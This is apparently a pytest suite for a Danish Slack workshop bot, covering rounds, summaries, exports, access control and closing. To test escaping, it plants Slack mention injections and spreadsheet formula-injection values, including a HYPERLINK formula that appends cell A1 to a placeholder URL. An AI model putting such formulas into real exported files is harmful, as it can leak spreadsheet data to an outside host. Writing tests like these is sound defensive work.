"""Facilitators through the real HTTP endpoint: live rounds, summaries, exports, closing."""

from __future__ import annotations

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from bot.facilitation.slack import refresh_rounds
from bot.slack import ids
from storage.models import AccessLogEntry, Participant, Workshop
from storage.repositories import participants as people
from tests.support.harness import Bot
from tests.support.people import (
    CHANNEL,
    FACILITATOR,
    PARTICIPANT,
    STEP_ANSWERS,
    all_lights,
    code_of,
    create_workshop,
    seed_reflections,
    start_button,
    uploaded_files,
)

OUTSIDER = "UOUTSIDE"
DM = "D" + FACILITATOR
INJECTIONS = ("<!channel>", "<@U123>", "<https://x|y>")
LONG = ("Vi har brug for mere ledelsesopbakning fra direktionen. " * 60)[:3000]


@pytest.fixture(autouse=True)
def _danish_speakers(standin) -> None:
    for user in (FACILITATOR, PARTICIPANT, OUTSIDER):
        standin.set_user(user, locale="da-DK")
    for marker in INJECTIONS:
        standin.plant(marker)


def _dm_messages(bot: Bot) -> list[dict[str, Any]]:
    return [c.params for c in bot.standin.posted_messages(DM)]


def _rich_rows() -> list[dict[str, Any]]:
    texts = [
        "Politisk opbakning i sundhedsudvalget gjorde en forskel.",
        "We got political backing from the health committee early on.",
        "Ledelsen på tværs af forvaltninger bakkede op <!channel>.",
        "Management support was missing in two departments <@U123>.",
        "Styregruppen sikrede koordinering på tværs <https://x|y>.",
        '=HYPERLINK("https://x","klik")',
        LONG,
        "Medarbejderne blev inddraget tidligt i processen.",
        "Netværket med nabokommunerne gav inspiration.",
        "Vi brugte eksisterende ressourcer bedre.",
    ]
    rows = []
    for number in range(20):
        rows.append(
            {
                "succeeded": {"text": texts[number % 10]},
                "hard": {"text": texts[-1 - number % 10]},
                "role": {"option": "consultant" if number % 2 else "leader"},
                "lights": all_lights(("green", "yellow", "red")[number % 3]),
                "steps": [
                    ("Tale med direktionen om ledelsesopbakning", date(2026, 12, 1)),
                    ("Lave et årshjul med trafiklys", None),
                ],
                "named": number == 0,
            }
        )
    return rows


def _round_message(bot: Bot) -> dict[str, Any]:
    return bot.standin.history(CHANNEL)[-1]


def _round_button(message: dict[str, Any]) -> str:
    for block in message["blocks"]:
        for element in block.get("elements", []):
            if element.get("action_id") == ids.ROUND_OPEN:
                return str(element["value"])
    raise AssertionError("no round button")


def test_a_round_keeps_a_throttled_live_count_through_a_burst_of_60(bot: Bot) -> None:
    announcement = create_workshop(bot)
    code = code_of(announcement)
    bot.slack.command(FACILITATOR, f"runde {code}")
    bot.settle()
    picker = bot.slack.current_view()
    assert picker["callback_id"] == ids.ROUND_CREATE
    reply = bot.slack.submit(FACILITATOR, picker, {ids.ROUND_THEME: "preparation"})
    assert reply.json() == {"response_action": "clear"}
    bot.settle()
    message = _round_message(bot)
    assert "Forberedelse og forudsætninger" in json.dumps(message, ensure_ascii=False)
    assert "Ingen har svaret endnu" in json.dumps(message, ensure_ascii=False)
    round_id = _round_button(message)

    users = [f"UROOM{n:03d}" for n in range(60)]
    views = {}
    for user in users:  # people who never joined are joined by the click
        bot.slack.click(user, ids.ROUND_OPEN, round_id, channel=CHANNEL, message_ts=message["ts"])
        bot.settle()
        view = bot.slack.current_view()
        assert view["callback_id"] == ids.REFLECTION_STEP
        assert [b["block_id"] for b in view["blocks"] if b["type"] == "input"] == ["preparation"]
        views[user] = view
    calls_before = len(bot.standin.calls_to("chat.update"))

    def answer(user: str) -> int:
        return bot.slack.submit(
            user, views[user], {"preparation": f"En handleplan ({user})"}
        ).status

    with ThreadPoolExecutor(max_workers=12) as pool:
        for wave in (users[:20], users[20:40], users[40:]):
            bot.clock.advance(seconds=4)
            assert set(pool.map(answer, wave)) == {200}
            bot.settle()
    bot.clock.advance(seconds=4)
    refresh_rounds(bot.services)  # the worker's trailing update

    updates = bot.standin.calls_to("chat.update")[calls_before:]
    shown = json.dumps(_round_message(bot), ensure_ascii=False)
    assert "60 har svaret" in shown
    assert 1 <= len(updates) <= 8
    assert not any(user in shown for user in users)
    refresh_rounds(bot.services)
    assert len(bot.standin.calls_to("chat.update")) == calls_before + len(updates)


def test_a_forged_round_id_stores_nothing(bot: Bot) -> None:
    announcement = create_workshop(bot)
    bot.slack.command(FACILITATOR, f"runde {code_of(announcement)}")
    bot.settle()
    bot.slack.submit(FACILITATOR, bot.slack.current_view(), {ids.ROUND_THEME: "evaluation"})
    bot.settle()
    message = _round_message(bot)
    bot.slack.click(
        PARTICIPANT, ids.ROUND_OPEN, _round_button(message), channel=CHANNEL, message_ts="1"
    )
    bot.settle()
    view = dict(bot.slack.current_view())
    meta = json.loads(view["private_metadata"])
    meta["s"] = 1  # the "succeeded" step, not the round's
    view["private_metadata"] = json.dumps(meta)
    reply = bot.slack.submit(PARTICIPANT, view, {"evaluation": "x"})
    assert reply.json()["response_action"] == "update"
    with bot.services.sessions() as session:
        assert people.answers_of(session, session.scalars(select(Participant.id)).one()) == {}


def test_a_summary_groups_answers_escapes_them_and_uploads_the_chart(bot: Bot) -> None:
    announcement = create_workshop(bot)
    workshop_id = int(start_button(announcement))
    code = code_of(announcement)
    # One participant end to end, with an injection string in an answer.
    bot.slack.click(PARTICIPANT, ids.START_REFLECTION, str(workshop_id), channel=CHANNEL)
    bot.settle()
    answers = [dict(a) for a in STEP_ANSWERS]
    answers[2] = {"hard": "Svært at få ledelsen med <!channel> <@U123> <https://x|y>"}
    for step in answers:
        bot.slack.submit(PARTICIPANT, bot.slack.current_view(), step)
    seed_reflections(bot, workshop_id, _rich_rows())

    bot.slack.command(FACILITATOR, f"opsummering {code}")
    bot.settle()
    assert "direkte besked" in bot.standin.responses()[-1]["text"]
    message = _dm_messages(bot)[-1]
    text = json.dumps(message["blocks"], ensure_ascii=False)
    assert len(message["blocks"]) <= 50
    assert "Deltagelse:* 21 deltagere" in text
    assert "Politisk opbakning" in text and "Ledelsesopbakning" in text
    assert "&lt;!channel&gt;" in text and "&lt;@U123&gt;" in text
    assert "<@USEED0000>" in text  # the one who chose to be named
    assert PARTICIPANT not in text and "USEED0001" not in text
    assert "21 svar" in text
    chart = uploaded_files(bot)["png"]
    assert chart.channel_id == DM and chart.content.startswith(b"\x89PNG")
    with bot.services.sessions() as session:
        log = session.scalars(select(AccessLogEntry)).all()
        assert [(e.workshop_id, e.actor_user_id, e.action) for e in log] == [
            (workshop_id, FACILITATOR, "summary")
        ]


def test_an_export_uploads_excel_word_and_csv_that_hold_the_answers(bot: Bot) -> None:
    min_group: dict[str, Any] = {ids.W_MIN_GROUP: 2}
    announcement = create_workshop(bot, "Fra politik til praksis", **min_group)
    workshop_id = int(start_button(announcement))
    seed_reflections(bot, workshop_id, _rich_rows())  # every group holds at least two answers
    bot.slack.command(FACILITATOR, f"eksport {code_of(announcement)}")
    bot.settle()
    assert "Excel, Word og CSV" in bot.standin.responses()[-1]["text"]
    files = uploaded_files(bot)
    assert set(files) == {"xlsx", "docx", "csv"}
    assert {f.channel_id for f in files.values()} == {DM}

    book = load_workbook(io.BytesIO(files["xlsx"].content))
    assert {"Overblik", "Næste skridt", "Trafiklys"} <= set(book.sheetnames)
    succeeded = next(
        book[name] for name in book.sheetnames if name.startswith("Hvad er I lykkedes")
    )
    cells = [c.value for row in succeeded.iter_rows() for c in row]
    assert LONG in cells
    assert "Ledelsen på tværs af forvaltninger bakkede op <!channel>." in cells
    assert '\'=HYPERLINK("https://x","klik")' in cells  # text, never a formula
    # Stored with Excel's padding, shown as 90 characters.
    assert int(succeeded.column_dimensions["B"].width) == 90
    assert succeeded["A1"].font.bold and succeeded["A1"].fill.fgColor.rgb.endswith("2F5496")
    assert all(c.alignment.wrap_text for row in succeeded.iter_rows() for c in row if c.value)
    assert not succeeded["A2"].font.bold
    steps = book["Næste skridt"]
    assert steps["B2"].value.date() == date(2026, 12, 1)
    assert steps["B2"].number_format == "DD-MM-YYYY"
    lights = book["Trafiklys"]
    assert [c.value for c in lights[2]][1:] == [7, 7, 6, 20]

    report = Document(io.BytesIO(files["docx"].content))
    paragraphs = "\n".join(p.text for p in report.paragraphs)
    assert "Rapport: Fra politik til praksis" in paragraphs
    assert "17. oktober 2026" in paragraphs
    assert "Politisk opbakning" in paragraphs
    assert "Tale med direktionen om ledelsesopbakning (1. december 2026)" in paragraphs
    assert len(report.inline_shapes) == 1  # the chart
    styles = {p.style.name for p in report.paragraphs if p.style is not None}
    assert {"Title", "Heading 1", "Heading 2", "Heading 3"} <= styles
    assert {"List Bullet", "Intense Quote", "List Number"} <= styles

    rows = list(csv.reader(io.StringIO(files["csv"].content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Kode", "Spørgsmåls-id"]
    succeeded_rows = [r for r in rows if r[1] == "succeeded"]
    assert len(succeeded_rows) == 20
    assert any(r[4] == LONG for r in succeeded_rows)
    assert sum(r[1] == "next_steps" for r in rows) == 40
    with bot.services.sessions() as session:
        actions = [e.action for e in session.scalars(select(AccessLogEntry))]
        assert actions == ["export"]


def test_small_groups_show_only_counts_and_nobody_unnamed_is_named(bot: Bot) -> None:
    announcement = create_workshop(bot)
    workshop_id = int(start_button(announcement))
    secret = "Kun tre har skrevet dette hemmelige svar"
    seed_reflections(
        bot,
        workshop_id,
        [{"hard": {"text": f"{secret} {n}"}, "lights": all_lights("red")} for n in range(3)],
    )
    bot.slack.command(FACILITATOR, f"summary {code_of(announcement)}")
    bot.slack.command(FACILITATOR, f"export {code_of(announcement)}")
    bot.settle()
    text = json.dumps(_dm_messages(bot)[-1], ensure_ascii=False)
    assert secret not in text
    assert "3 svar – for få til at vise mere (mindste gruppe: 5 personer)" in text
    files = uploaded_files(bot)
    assert "png" not in files  # no bars below the minimum group size
    book = load_workbook(io.BytesIO(files["xlsx"].content))
    every_cell = [str(c.value) for ws in book for row in ws.iter_rows() for c in row]
    assert not any(secret in cell for cell in every_cell)
    report = "\n".join(p.text for p in Document(io.BytesIO(files["docx"].content)).paragraphs)
    assert secret not in report and "USEED" not in report
    assert secret not in files["csv"].content.decode("utf-8-sig")


def test_anyone_but_a_facilitator_is_refused_and_sees_no_data(bot: Bot) -> None:
    announcement = create_workshop(bot)
    code = code_of(announcement)
    workshop_id = start_button(announcement)
    seed_reflections(bot, int(workshop_id), _rich_rows())
    for command in ("opsummering", "eksport", "runde", "luk"):
        bot.slack.command(OUTSIDER, f"{command} {code}")
        bot.settle()
        assert "kun temadagens facilitatorer" in bot.standin.responses()[-1]["text"]
    bot.slack.command(OUTSIDER, "opsummering")
    bot.settle()
    assert "ingen temadage" in bot.standin.responses()[-1]["text"]
    for action in (ids.HOME_SUMMARY, ids.HOME_EXPORT, ids.HOME_CLOSE):
        bot.slack.click(OUTSIDER, action, workshop_id)
        bot.settle()
    assert bot.standin.uploaded_files == {}
    dm = json.dumps(bot.standin.history("D" + OUTSIDER), ensure_ascii=False)
    assert "Politisk" not in dm and "facilitatorer" in dm
    with bot.services.sessions() as session:
        assert session.scalars(select(AccessLogEntry)).all() == []
        workshop = session.get(Workshop, int(workshop_id))
        assert workshop is not None and workshop.status == "open"


def test_another_team_cannot_reach_the_workshop(bot: Bot) -> None:
    announcement = create_workshop(bot)
    bot.slack.team = "T2"
    bot.slack.command(FACILITATOR, f"opsummering {code_of(announcement)}")
    bot.settle()
    assert "passer ikke" in bot.standin.responses()[-1]["text"]
    assert _dm_messages(bot) == []


def test_closing_stops_answers_and_sends_the_final_summary(bot: Bot) -> None:
    announcement = create_workshop(bot)
    workshop_id = start_button(announcement)
    bot.slack.click(PARTICIPANT, ids.START_REFLECTION, workshop_id, channel=CHANNEL)
    bot.settle()
    bot.slack.submit(PARTICIPANT, bot.slack.current_view(), STEP_ANSWERS[0])
    open_view = bot.slack.current_view()
    home = json.dumps(bot.standin.home_of(FACILITATOR))
    for action in (ids.HOME_SUMMARY, ids.HOME_EXPORT, ids.HOME_ROUND, ids.HOME_CLOSE):
        assert action in home
    bot.slack.click(FACILITATOR, ids.HOME_CLOSE, workshop_id)
    bot.settle()
    with bot.services.sessions() as session:
        workshop = session.get(Workshop, int(workshop_id))
        assert workshop is not None
        assert workshop.status == "closed" and workshop.closed_at == bot.clock()
    assert "endelige opsummering" in json.dumps(_dm_messages(bot)[-1], ensure_ascii=False)
    reply = bot.slack.submit(PARTICIPANT, open_view, STEP_ANSWERS[1])
    assert "lukket" in json.dumps(reply.json(), ensure_ascii=False)
    assert ids.HOME_CLOSE not in json.dumps(bot.standin.home_of(FACILITATOR))
    bot.slack.command(FACILITATOR, f"luk {code_of(announcement)}")
    bot.settle()
    assert "allerede lukket" in bot.standin.responses()[-1]["text"]


def test_a_summary_of_all_workshops_shows_recurring_barriers(bot: Bot) -> None:
    first = create_workshop(bot, title="Temadag 1")
    second = create_workshop(bot, title="Temadag 2")
    rows = [{"hard": {"text": "Politisk opbakning mangler i udvalget."}} for _ in range(6)]
    seed_reflections(bot, int(start_button(first)), rows)
    seed_reflections(bot, int(start_button(second)), rows[:2])  # too few to count
    bot.clock.advance(days=1)
    bot.slack.command(FACILITATOR, "opsummering alle")
    bot.settle()
    text = json.dumps(_dm_messages(bot)[-1], ensure_ascii=False)
    assert "Politisk opbakning: 6 svar i 1 af 2 temadage" in text
    assert "1 temadag havde for få svar" in text
    with bot.services.sessions() as session:
        assert len(session.scalars(select(AccessLogEntry)).all()) == 2


def test_every_csv_cell_is_formula_safe_even_an_opted_in_display_name(bot: Bot) -> None:
    evil = ('=HYPERLINK("http://x?"&A1,"Klik")', "-Bente", "+45 1234", "@Ole", "\tTab")
    min_group: dict[str, Any] = {ids.W_MIN_GROUP: 2}
    announcement = create_workshop(bot, "Fra politik til praksis", **min_group)
    workshop_id = int(start_button(announcement))
    rows = _rich_rows()[:10]
    for number, row in enumerate(rows):
        row["named"] = number < len(evil)
    for number, name in enumerate(evil):
        bot.standin.set_user(f"USEED{number:04d}", locale="da-DK", name=name)
    seed_reflections(bot, workshop_id, rows)
    bot.slack.command(FACILITATOR, f"eksport {code_of(announcement)}")
    bot.settle()
    content = uploaded_files(bot)["csv"].content.decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(content), delimiter=";") for c in r]
    assert "'-Bente" in cells and '\'=HYPERLINK("http://x?"&A1,"Klik")' in cells
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
